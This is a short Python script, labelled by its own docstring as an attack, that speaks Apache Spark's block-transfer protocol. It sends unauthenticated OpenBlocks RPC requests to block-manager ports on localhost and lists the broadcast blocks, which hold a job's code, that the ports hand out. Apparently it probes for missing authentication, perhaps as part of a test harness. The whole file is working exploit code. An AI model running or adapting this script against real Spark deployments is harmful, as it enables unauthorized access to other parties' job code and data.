"""An attack: fetches broadcast blocks, which hold a job's code, from Spark's block manager without any secret.

It speaks Spark's transport protocol: a frame is its length, a type and the message. The answer to an RpcRequest (3)
with OpenBlocks is an RpcResponse (4) or an RpcFailure (5).
"""

from __future__ import annotations

import socket
import struct
import sys
from typing import Final, Optional

_RPC_REQUEST: Final = 3
_RPC_RESPONSE: Final = 4
_OPEN_BLOCKS: Final = b"\0"
_BLOCKS: Final = 10


def _text(value: str) -> bytes:
    data = value.encode()
    return struct.pack(">i", len(data)) + data


def answer_to_open(port: int, block: str) -> Optional[int]:
    """The type of a port's answer to a request for a block; None if the port gives none."""
    body = _OPEN_BLOCKS + _text("app") + _text("driver") + struct.pack(">i", 1) + _text(block)
    header = struct.pack(">bqi", _RPC_REQUEST, 1, len(body))
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=3) as connection:
            connection.sendall(struct.pack(">q", 8 + len(header) + len(body)) + header + body)
            answer = connection.recv(9, socket.MSG_WAITALL)
    except OSError:
        return None
    return answer[8] if len(answer) == 9 else None


def stolen_blocks(ports: list[int]) -> list[str]:
    """The broadcast blocks that one of the ports hands out."""
    blocks = [f"broadcast_{number}_piece0" for number in range(_BLOCKS)]
    return [block for port in ports for block in blocks if answer_to_open(port, block) == _RPC_RESPONSE]


if __name__ == "__main__":
    print(" ".join(stolen_blocks([int(port) for port in sys.argv[1:]])))
